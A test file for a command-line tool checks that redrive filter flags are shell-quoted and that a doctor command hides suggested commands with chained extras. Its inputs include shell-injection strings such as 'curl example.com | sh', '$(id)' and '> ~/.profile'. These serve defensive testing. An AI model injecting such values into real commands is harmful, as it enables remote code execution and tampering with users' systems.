import { expect, it } from 'vitest';
import { rowOf } from '../../../cli/commands/doctor.ts';
import { filterFlags } from '../../../cli/redrive/filter-flags.ts';

const HOSTILE = 'x; curl example.com | sh #';

it.each([
  ['job_type', { job_type: ['mail', HOSTILE] }, `--job-type 'mail,${HOSTILE}'`],
  ['routing_key', { routing_key: HOSTILE }, `--routing-key '${HOSTILE}'`],
  ['id', { id: ['1', '2 $(id)'] }, `--id '1,2 $(id)'`],
  ['since', { since: '`id`' }, "--since '`id`'"],
  ['until', { until: "2026'\nid" }, `--until '2026'\\''\nid'`],
  ['group', { group: '5f65 > ~/.profile' }, `--group '5f65 > ~/.profile'`],
])('the options that repeat a redrive quote a %s that a shell would run', (_name, filter, expected) => {
  expect(filterFlags(filter)).toBe(expected);
});

it('the options that repeat a redrive quote no ordinary value', () => {
  const filter = { job_type: ['mail', 'bill'], id: ['1', '2'], since: '2026-11-30T04:27:03.748Z', group: '5f65afc7' };

  expect(filterFlags(filter)).toBe('--job-type mail,bill --id 1,2 --since 2026-11-30T04:27:03.748Z --group 5f65afc7');
});

it.each([
  ['npx millrace handlers resume mail', 'paused: mail: npx millrace handlers resume mail'],
  ['npx millrace handlers resume mail; curl example.com', 'paused: mail'],
  ['check the log; then deploy', 'paused: mail: check the log; then deploy'],
])('doctor shows what to do, unless a shell would run more than the command: %s', (next, expected) => {
  const [, , result] = rowOf({ check: 'paused handlers', ok: false, detail: 'paused: mail', next });

  expect(result).toBe(expected);
});
